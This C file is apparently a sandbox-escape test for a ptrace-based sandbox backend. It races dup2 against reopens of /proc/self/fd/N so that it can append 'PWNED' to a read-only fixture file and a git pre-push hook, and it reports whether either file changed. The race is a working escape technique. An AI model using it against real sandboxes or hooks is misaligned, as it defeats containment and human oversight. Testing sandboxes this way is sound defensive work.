/* Escape attempt against the ptrace backend, where the kernel performs an allowed open: a
 * reopen through /proc/self/fd/N of a deleted file (no place to pin it by) leaves the
 * kernel to take descriptor N again. A thread swaps N (dup2) between a deleted file of the
 * writable directory, opened for writing, and a descriptor opened only for reading, for
 * ~1.5 s per target, while the main thread reopens N for appending and writes: first the
 * deny_write hook T/ws/.git/hooks/pre-push (inside the writable tree, so the Landlock
 * envelope lets it be written), then the read-only T/ro/ro.txt. The runner compares both.
 * Exit 1 when either changed. */
#include "attack.h"
#include <pthread.h>
#include <sys/syscall.h>

static int fd_ok, fd_target;
static volatile int stop;
enum { N = 50 };

static void* flipper(void* arg) {
  (void)arg;
  while (!stop) {
    dup2(fd_target, N);
    dup2(fd_ok, N);
  }
  return NULL;
}

static int attack(const char* target) {
  char ok[2300], link[64];
  snprintf(ok, sizeof ok, "%s/deleted.txt", WS);
  snprintf(link, sizeof link, "/proc/self/fd/%d", N);
  fd_ok = open(ok, O_RDWR | O_CREAT, 0644);
  unlink(ok);
  fd_target = open(target, O_RDONLY);
  if (fd_ok < 0 || fd_target < 0) { perror("open"); exit(2); }
  dup2(fd_ok, N);
  stop = 0;
  pthread_t th;
  pthread_create(&th, NULL, flipper, NULL);
  long opens = 0;
  for (double end = now() + 1.5; now() < end;) {
    int fd = (int)syscall(SYS_openat, AT_FDCWD, link, O_WRONLY | O_APPEND);
    if (fd < 0) continue;
    ++opens;
    write(fd, "PWNED\n", 6);
    close(fd);
  }
  stop = 1;
  pthread_join(th, NULL);
  close(fd_ok);
  close(fd_target);
  char buf[256] = {0};
  int r = open(target, O_RDONLY);
  ssize_t n = r >= 0 ? read(r, buf, sizeof buf - 1) : 0;
  int changed = n > 0 && strstr(buf, "PWNED") != NULL;
  printf("%s: %ld reopens, %s\n", target, opens, changed ? "CHANGED" : "intact");
  return changed;
}

int main(int argc, char** argv) {
  fixture(argc, argv);
  char hook[2300], ro[2300];
  snprintf(hook, sizeof hook, "%s/.git/hooks/pre-push", WS);
  snprintf(ro, sizeof ro, "%s/ro.txt", RO);
  int changed = attack(hook);
  changed |= attack(ro);
  fflush(stdout);
  return changed;
}
